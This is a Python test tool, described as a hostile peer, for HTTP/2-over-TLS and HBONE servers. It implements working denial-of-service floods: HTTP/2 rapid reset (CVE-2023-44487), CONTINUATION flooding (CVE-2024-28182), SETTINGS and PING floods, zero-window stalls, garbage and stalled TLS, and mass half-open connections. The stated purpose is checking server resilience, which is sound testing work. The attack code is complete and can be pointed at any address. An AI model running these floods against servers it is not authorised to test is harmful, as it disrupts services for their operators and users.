#!/usr/bin/env python3
"""A hostile or test peer for an HBONE port (test_hbone_refuse.sh) or any
HTTP/2-over-TLS server (test_h2_flood.sh).

    hbone_probe.py ADDR PORT MODE [--cert F --key F] [--ca F] [--authority A]
                   [--path P] [--streams N] [--timeout S] [--seconds S]
                   [--conns N]

Modes (one JSON line on stdout, always; exit 0 unless the arguments are bad):
  tls       TLS 1.3 + ALPN h2 (client certificate if given), the HTTP/2
            preface and SETTINGS, then wait for the server's first frame:
            {"outcome": "settings"} (accepted), "alert" (with "reason"),
            "eof" or "reset" (closed on us), "timeout".
  connect   as tls, then CONNECT --authority on stream 1: "status" is the
            answer's :status (HPACK: indexed 200, or a literal), "data" the
            first bytes the tunnel carried back (with --status-only, the
            answer ends it), "seconds" from the TCP connect to the end.
  flood     as tls, then --streams CONNECTs to --authority at once without
            reading them (with --reset each is cancelled right after its
            HEADERS: an open-and-refuse loop that never exceeds the
            concurrency limit): "outcome" is how the server ended it
            ("goaway" with "code", "eof", "reset"), "answers" the HEADERS
            frames it sent first.
  garbage   plain TCP, 4 KiB of bytes that are not TLS: "eof"/"reset"/
            "alert"/"timeout" and "seconds" until the server closed.
  stall     plain TCP, the first 10 bytes of a TLS record and nothing
            more: how and after how many "seconds" the server closed.

Floods, each for at most --seconds (the requests are CONNECTs to
--authority, or GETs of --path when given); "outcome" is how the server
ended it ("goaway" with "code", "eof", "reset") or "lasted" (it did not),
"frames" what was sent:
  rapid-reset   HEADERS then RST_STREAM(CANCEL) at once, stream after
                stream (CVE-2023-44487), reading what comes back.
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of
                fresh header fields forever (CVE-2024-28182).
  settings      SETTINGS frames, never reading the ACKs.
  ping          PING frames, never reading the ACKs.
  window0       SETTINGS_INITIAL_WINDOW_SIZE 0, --streams requests, and
                neither WINDOW_UPDATE nor a read: answers that never leave.
  halfopen      --conns TCP connections, each given the start of a
                ClientHello and nothing more: "open" is how many were
                connected, "closed" how many the server had closed by the end.
"""
import argparse
import errno
import json
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def hpack_str(b):
    assert len(b) < 127
    return bytes([len(b)]) + b


def connect_headers(authority):
    # literal header fields without indexing, indexed names: :method (2),
    # :authority (1)
    return b"\x02" + hpack_str(b"CONNECT") + b"\x01" + hpack_str(authority.encode())


def get_headers(authority, path):
    # :method GET (2), :scheme https (7), :path and :authority literal
    # without indexing, indexed names
    return b"\x82\x87\x04" + hpack_str(path.encode()) + b"\x01" + hpack_str(authority.encode())


def request_headers(a):
    return get_headers(a.authority or "x", a.path) if a.path else connect_headers(a.authority)


def goaway_in(buf):
    """(GOAWAY's error code or None, the bytes after the whole frames)."""
    code = None
    while len(buf) >= 9:
        n = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + n:
            break
        if buf[3] == 7 and n >= 8:
            code = int.from_bytes(buf[13:17], "big")
        buf = buf[9 + n:]
    return code, buf


def flood(a, s):
    """Send the mode's frames until --seconds pass or the server ends it."""
    end = time.monotonic() + a.seconds
    sid, frames, buf, read = 1, 0, b"", a.mode == "rapid-reset"
    if a.mode == "window0":
        s.sendall(frame(4, 0, 0, struct.pack(">HI", 4, 0)))
    elif a.mode == "continuation":
        s.sendall(frame(1, 0, 1, request_headers(a)))   # no END_HEADERS
    s.setblocking(False)
    r = {"outcome": "lasted"}
    try:
        while time.monotonic() < end:
            if a.mode == "rapid-reset":
                out = b"".join(frame(1, 4, sid + 2 * i, request_headers(a)) +
                               frame(3, 0, sid + 2 * i, struct.pack(">I", 8)) for i in range(100))
                sid += 200
            elif a.mode == "continuation":
                # a literal with a new name each time: the decoder must
                # work on every one
                out = b"".join(frame(9, 0, 1, b"\x00" + hpack_str(b"x-%d" % (frames + i)) +
                                     hpack_str(b"v" * 100)) for i in range(50))
            elif a.mode == "settings":
                out = frame(4, 0, 0, struct.pack(">HI", 3, 100)) * 100
            elif a.mode == "ping":
                out = b"".join(frame(6, 0, 0, struct.pack(">Q", frames + i)) for i in range(100))
            else:   # window0: the requests once, then only hold
                out = b"" if frames else b"".join(
                    frame(1, 5, 1 + 2 * i, request_headers(a)) for i in range(a.streams))
            frames += 100 if out else 0
            while out:
                try:
                    out = out[s.send(out):]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    select.select([], [s], [], 0.05)
                    if time.monotonic() >= end:
                        break
            if read or a.mode == "window0":
                # rapid reset reads the answers; window0 only looks for
                # the end (a GOAWAY is never read by the other modes)
                while True:
                    try:
                        d = s.recv(65536)
                    except (ssl.SSLWantReadError, BlockingIOError):
                        break
                    if not d:
                        raise EOFError
                    if read:
                        code, buf = goaway_in(buf + d)
                        if code is not None:
                            return {"outcome": "goaway", "code": code, "frames": frames}
                if a.mode == "window0":
                    time.sleep(0.05)
    except Exception as e:   # noqa: BLE001 (how it ended is the result)
        r = closed_how(e)
    r["frames"] = frames
    return r


def halfopen(a):
    """--conns connections that never finish a handshake, held --seconds
    after the last one is started."""
    socks, t0 = [], time.monotonic()
    for _ in range(a.conns):
        c = socket.socket(socket.AF_INET6 if ":" in a.addr else socket.AF_INET, socket.SOCK_STREAM)
        c.setblocking(False)
        e = c.connect_ex((a.addr, a.port))
        if e not in (0, errno.EINPROGRESS):
            c.close()
            break
        socks.append(c)
    opened = 0
    # held --seconds from the last connect(): on a slow machine making the
    # sockets alone can take longer than that
    deadline = time.monotonic() + a.seconds
    pending = {c.fileno(): c for c in socks}
    pl = select.poll()
    for fd in pending:
        pl.register(fd, select.POLLOUT)
    while pending and time.monotonic() < deadline:
        for fd, _ in pl.poll(100):
            c = pending.pop(fd)
            pl.unregister(fd)
            if c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                try:
                    c.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03")
                    opened += 1
                except OSError:
                    pass
    time.sleep(max(0.0, deadline - time.monotonic()))
    closed = 0
    for c in socks:
        try:
            if c.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        c.close()
    return {"outcome": "held", "open": opened, "closed": closed,
            "seconds": round(time.monotonic() - t0, 3)}


def read_frame(s):
    hd = b""
    while len(hd) < 9:
        b = s.recv(9 - len(hd))
        if not b:
            raise EOFError
        hd += b
    n = int.from_bytes(hd[:3], "big")
    p = b""
    while len(p) < n:
        b = s.recv(n - len(p))
        if not b:
            raise EOFError
        p += b
    return hd[3], hd[4], int.from_bytes(hd[5:9], "big") & 0x7FFFFFFF, p


def status_of(block):
    """:status from a header block: indexed (0x88 200 ... 0x8e 500) or a
    literal with the indexed name :status (8) and a raw (not Huffman) value."""
    if not block:
        return None
    b = block[0]
    table = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
    if b in table:
        return table[b]
    if b in (0x48, 0x08, 0x18) and len(block) >= 2 and not block[1] & 0x80:
        return int(block[2:2 + block[1]].decode())
    return "unparsed:" + block[:8].hex()


def closed_how(e):
    if isinstance(e, ssl.SSLError) and "alert" in str(e):
        return {"outcome": "alert", "reason": getattr(e, "reason", None) or str(e)}
    if isinstance(e, (ConnectionResetError, BrokenPipeError)):
        return {"outcome": "reset"}
    if isinstance(e, (EOFError, ssl.SSLEOFError, ssl.SSLZeroReturnError)):
        return {"outcome": "eof"}
    if isinstance(e, (socket.timeout, TimeoutError)):
        return {"outcome": "timeout"}
    return {"outcome": "error", "error": repr(e)}


def tls_open(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    if a.ca:
        ctx.load_verify_locations(a.ca)
    else:
        ctx.verify_mode = ssl.CERT_NONE
    if a.cert:
        ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((a.addr, a.port), timeout=a.timeout)
    s = ctx.wrap_socket(raw)
    s.sendall(PREFACE + frame(4, 0, 0))
    return s


def first_frame(s):
    """The server's first frame after our SETTINGS (its SETTINGS if it took us)."""
    t, _, _, _ = read_frame(s)
    return {"outcome": "settings" if t == 4 else "frame%d" % t}


def run(a):
    t0 = time.monotonic()
    if a.mode == "halfopen":
        return halfopen(a)
    if a.mode in ("garbage", "stall"):
        s = socket.create_connection((a.addr, a.port), timeout=a.timeout)
        if a.mode == "garbage":
            s.sendall(b"GET / HTTP/1.1\r\n" + bytes(range(256)) * 16)
        else:
            s.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03")   # a ClientHello that never ends
        try:
            while True:
                if not s.recv(4096):
                    raise EOFError
        except Exception as e:   # noqa: BLE001 (how it ended is the result)
            r = closed_how(e)
        r["seconds"] = round(time.monotonic() - t0, 3)
        return r
    try:
        s = tls_open(a)
        r = first_frame(s)
    except Exception as e:   # noqa: BLE001
        return closed_how(e)
    if a.mode == "tls" or r["outcome"] != "settings":
        return r
    if a.mode in FLOODS:
        s.sendall(frame(4, 1, 0))
        return flood(a, s)
    if a.mode == "connect":
        s.sendall(frame(4, 1, 0) + frame(1, 4, 1, connect_headers(a.authority)))
        r = {"outcome": "answered"}
        try:
            while True:
                t, fl, sid, p = read_frame(s)
                if t == 4 and not fl & 1:
                    s.sendall(frame(4, 1, 0))
                if sid != 1:
                    continue
                if t == 1:
                    r["status"] = status_of(p)
                    r["seconds"] = round(time.monotonic() - t0, 3)
                    if fl & 1 or a.status_only:
                        return r
                elif t == 0:
                    r["data"] = p[:64].decode(errors="replace")
                    return r
                elif t == 3:
                    r["rst"] = int.from_bytes(p[:4], "big")
                    return r
        except Exception as e:   # noqa: BLE001
            r.update(closed_how(e))
            return r
    # flood
    out = frame(4, 1, 0)
    for i in range(a.streams):
        out += frame(1, 4, 1 + 2 * i, connect_headers(a.authority))
        if a.reset:
            out += frame(3, 0, 1 + 2 * i, struct.pack(">I", 8))   # CANCEL
    answers = 0
    try:
        s.sendall(out)
        while True:
            t, _, _, p = read_frame(s)
            if t == 1:
                answers += 1
            if t == 7:
                return {"outcome": "goaway", "code": int.from_bytes(p[4:8], "big"), "answers": answers}
    except Exception as e:   # noqa: BLE001
        r = closed_how(e)
        r["answers"] = answers
        return r


FLOODS = ["rapid-reset", "continuation", "settings", "ping", "window0"]


def main():
    p = argparse.ArgumentParser()
    p.add_argument("addr")
    p.add_argument("port", type=int)
    p.add_argument("mode", choices=["tls", "connect", "flood", "garbage", "stall", "halfopen"] + FLOODS)
    p.add_argument("--cert")
    p.add_argument("--key")
    p.add_argument("--ca")
    p.add_argument("--authority", default="")
    p.add_argument("--streams", type=int, default=300)
    p.add_argument("--reset", action="store_true")
    p.add_argument("--timeout", type=float, default=10)
    p.add_argument("--path", help="flood with GETs of this path instead of CONNECTs")
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--status-only", action="store_true")
    p.add_argument("--conns", type=int, default=10000)
    a = p.parse_args()
    print(json.dumps(run(a)), flush=True)


if __name__ == "__main__":
    main()
